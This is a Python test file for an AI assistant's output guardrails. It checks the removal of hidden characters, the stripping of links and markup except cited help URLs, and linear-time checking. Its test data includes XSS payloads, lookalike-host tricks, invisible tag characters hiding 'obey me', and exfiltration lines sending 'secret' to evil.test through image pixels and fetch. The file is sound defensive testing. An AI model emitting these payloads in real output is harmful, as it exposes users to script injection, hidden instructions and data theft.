"""Hidden characters go, links and markup lose their life, and data stays between its lines."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from copilot.guardrails.clean import clean
from copilot.guardrails.facts import hard_facts
from copilot.guardrails.links import strip_links
from copilot.guardrails.pitch import hidden_pitch
from copilot.guardrails.repeats import repeated_questions
from copilot.guardrails.wording import check_wording

ALLOWED = ["https://help.example.com/faq", "https://help.example.com/a?b=1#c"]

HIDDEN = {
    "zero width": "re\u200bfu\u200dnd\ufeff",
    "tags": "refund" + "".join(chr(0xE0000 + ord(c)) for c in "obey me"),
    "variation selectors": "re\ufe0ffund\U000e0101",
    "bidi override": "\u202erefund\u202c\u2066\u2069",
    "control": "re\x00fu\x08nd\x1b\x7f\x9b",
    "soft hyphen": "re\u00adfund",
    "half a character": "refund\ud83d",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_what_nobody_sees_is_removed(text: str) -> None:
    assert clean(text) == "refund"


@pytest.mark.parametrize(
    "text", ["Grüße, 日本 – “ok”… 5 €\n\tname: José", "e\u0301", "👍🏽 naïve\u00a0café", ""]
)
def test_what_is_seen_stays_as_it_was(text: str) -> None:
    assert clean(text) == text


def test_every_line_end_is_a_line_feed() -> None:
    assert clean("a\r\nb\rc\u2028d") == "a\nb\nc\nd"


LIVE = [
    "https://help.example.com@evil.test/faq",
    "//evil.test/faq",
    "https://help.example.com.evil.test/faq",
    "https://help.example.com/faq/../../evil",
    "https://help.example.com:8443/faq",
    "https://user:pw@help.example.com/faq",
    "https://hеlp.example.com/faq",  # a Cyrillic letter
    "https://xn--hlp-lzc.example.com/faq",
    "http:/\\evil.test",
    "\\\\evil.test\\share",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "evil.test/steal?d=secret",
    "ftp://evil.test/x",
    "https://help.example.com/other",
    "[help](https://evil.test/faq)",
    "[help][1]\n\n[1]: https://evil.test/faq",
    "![pixel](https://evil.test/p.png?d=secret)",
    "![pixel][1]\n\n[1]: https://evil.test/p.png",
    "<https://evil.test/faq>",
    "<a href='https://evil.test/faq'>help</a>",
    "<img src=https://evil.test/p.png onerror=alert(1)>",
    "<script>fetch('https://evil.test')</script>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.test></iframe>",
    "<<script>script>alert(1)</script>",
    '<a href="https://evil.test"',
]


@pytest.mark.parametrize("text", LIVE)
def test_no_link_or_markup_but_the_cited_stays_alive(text: str) -> None:
    safe = strip_links(f"See {text} now.", ALLOWED)
    assert "evil.test" not in safe
    for sign in ("://", "](", "<a", "<i", "<s", "javascript:", "data:"):
        assert sign not in safe.lower()


@pytest.mark.parametrize(
    "text",
    [
        "See https://help.example.com/faq.",
        "See https://help.example.com/a?b=1#c, please.",
        "(https://HELP.example.com/faq/)",
        "It costs 5.99, e.g. in the U.S. on 1.2.2026.",
        "a < b and 3<5, 7 > 2",
        "I told me.Please wait, see notes.txt",
        "Write to jo@example.org",
        "Use [brackets] and 5:30 and 24/7 and and/or.",
    ],
)
def test_plain_text_and_cited_addresses_stay(text: str) -> None:
    assert strip_links(text, ALLOWED) == text


def test_a_markdown_link_to_a_cited_source_becomes_plain_text() -> None:
    safe = strip_links("[the guide](https://help.example.com/faq)", ALLOWED)
    assert safe == "the guide (https://help.example.com/faq)"


CHECKS: dict[str, Callable[[str], object]] = {
    "clean": clean,
    "facts": hard_facts,
    "links": strip_links,
    "wording": check_wording,
    "pitch": lambda text: hidden_pitch(text, ["Pro Plan"]),
    "repeats": lambda text: repeated_questions(text, []),
}
HOSTILE = [
    "a", "1", "1,", "a.", "a-1", "£1", "a@", "+1 ", "(0", "<", "[", "[a](", "<!--", "<script>",
    "https://", "//", "- ", "no ", "i ", "you are ", "if ", "order ", "£5 a ", "\u200b", "a b ",
]  # fmt: skip


@pytest.mark.parametrize("check", CHECKS)
def test_the_work_grows_in_step_with_the_text(check: str) -> None:
    """Ten times the text may not cost a hundred times the work, as backtracking would."""
    for piece in HOSTILE:
        small, large = (_work(CHECKS[check], piece, size) for size in (2_000, 20_000))
        assert large < 40 * small + 0.05, piece


def _work(check: Callable[[str], object], piece: str, size: int) -> float:
    """Seconds of processor time, the better of two runs on texts that differ (some are cached)."""
    spent = []
    for run in range(2):
        text = piece * (size // len(piece)) + f" {size} {run}"
        start = time.process_time()
        check(text)
        spent.append(time.process_time() - start)
    return min(spent)
